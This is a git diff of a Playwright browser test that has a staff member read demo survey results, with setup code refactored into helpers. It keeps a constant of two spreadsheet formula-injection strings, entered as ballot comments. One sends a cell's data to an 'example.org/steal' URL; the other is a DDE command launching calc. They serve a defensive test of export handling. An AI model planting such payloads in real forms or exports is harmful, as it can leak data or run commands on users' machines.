@@ -1,23 +1,17 @@
 // A staff member reads the results of the demo survey (filled by `npm run demo`) in a browser
 // against the real server: in English, French and Spanish, and printed.
 import { expect } from 'chai';
-import { execFile } from 'node:child_process';
-import { promisify } from 'node:util';
 import type { Browser, Page } from 'playwright-core';
-import { DEMO_EMAIL_DOMAIN, DEMO_MEMBER_STATES, DEMO_PASSWORDS, currentSurveyInput } from '../../db/seeds/demo-content.js';
+import { DEMO_MEMBER_STATES } from '../../db/seeds/demo-content.js';
 import { en } from '../../server/i18n/en.js';
 import { resultsCatalogue } from '../../server/i18n/areas/results.js';
 import { closeSessions, launchBrowser, openSession, takeScreenshot, type Session, type SessionOptions } from './helpers/browser.js';
-import { clickAndWait, heading, htmlLang, signIn, untranslatedKeys } from './helpers/pages.js';
-import { REPO_ROOT, startServer, type RunningServer } from './helpers/server.js';
+import { clickAndWait, heading, htmlLang, untranslatedKeys } from './helpers/pages.js';
+import { answerAsDelegate, signedInState, STAFF, startDemoServer, SURVEY, type DemoServer } from './helpers/demo.js';
+import type { RunningServer } from './helpers/server.js';
 
-const run = promisify(execFile);
 const NAMESPACES = [...Object.keys(en), 'voting'];
-const STAFF = { email: `staff@${DEMO_EMAIL_DOMAIN}`, password: DEMO_PASSWORDS.staff };
-/** A member that the demo leaves without a ballot: its delegate answers here, so the turnout is the demo's plus one. */
-const DELEGATE = { iso3: 'AUS', email: `delegate.aus@${DEMO_EMAIL_DOMAIN}`, password: DEMO_PASSWORDS.delegate };
 const FORMULA_COMMENTS = ['=HYPERLINK("https://example.org/steal?d="&A1,"Open")', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
-const SURVEY = currentSurveyInput(new Date().toISOString());
 /** Fills in an i18n message's {{placeholders}} as the server does. */
 function message(template: string, values: Record<string, string | number>): string {
   return template.replace(/\{\{(\w+)\}\}/g, (_, name: string) => String(values[name]));
@@ -51,41 +45,13 @@ describe('Results journey in a browser', function () {
   }
 
   before(async function () {
-    [server, browser] = await Promise.all([
-      startServer({
-        setupLink: false,
-        // `npm run demo` fills the server's empty database before it starts, as an operator would.
-        beforeStart: async (env) => { demoOutput = (await run(process.execPath, ['--import=tsx', 'db/seeds/demo.ts'], { cwd: REPO_ROOT, env })).stdout; },
-      }),
-      launchBrowser(),
-    ]);
+    let demo: DemoServer;
+    [demo, browser] = await Promise.all([startDemoServer(), launchBrowser()]);
+    ({ server, output: demoOutput } = demo);
     expect(demoOutput).to.match(new RegExp(`staff\\s+${STAFF.email.replace(/\./g, '\\.')}\\s+password: ${STAFF.password}`));
-
     // A delegation the demo left without a ballot answers, with comments that look like formulas.
-    const delegate = await openSession(browser, server.baseUrl, { javaScript: false });
-    sessions.push(delegate);
-    const { page } = delegate;
-    await signIn(page, DELEGATE.email, DELEGATE.password);
-    const id = Number(/survey (\d+) "International Dialogue on Migration 2008"/.exec(demoOutput)?.[1]);
-    await page.goto(`/surveys/${id}/ballot`);
-    const fieldsets = page.locator('form.ballot-form fieldset.question');
-    expect(await fieldsets.count()).to.equal(SURVEY.questions.length);
-    for (let q = 0; q < SURVEY.questions.length; q++) {
-      await fieldsets.nth(q).locator('select[id^="rank_"]').first().selectOption('1');
-      await fieldsets.nth(q).locator('textarea[id^="comment_"]').fill(FORMULA_COMMENTS[q]!);
-    }
-    await clickAndWait(page, page.getByRole('button', { name: 'Review the ballot' }));
-    await clickAndWait(page, page.getByRole('button', { name: 'Submit the ballot' }));
-    expect(new URL(page.url()).pathname).to.match(/^\/surveys\/\d+\/ballot\/receipt\//);
-    expect(delegate.problems).to.deep.equal([]);
-    await delegate.close();
-    sessions = [];
-
-    const staff = await openSession(browser, server.baseUrl);
-    await signIn(staff.page, STAFF.email, STAFF.password);
-    expect(staff.problems).to.deep.equal([]);
-    staffState = await staff.context.storageState();
-    await staff.close();
+    await answerAsDelegate(browser, server.baseUrl, demo.surveyId, { perQuestion: FORMULA_COMMENTS });
+    staffState = await signedInState(browser, server.baseUrl, STAFF);
   });
 
   afterEach(async function () {
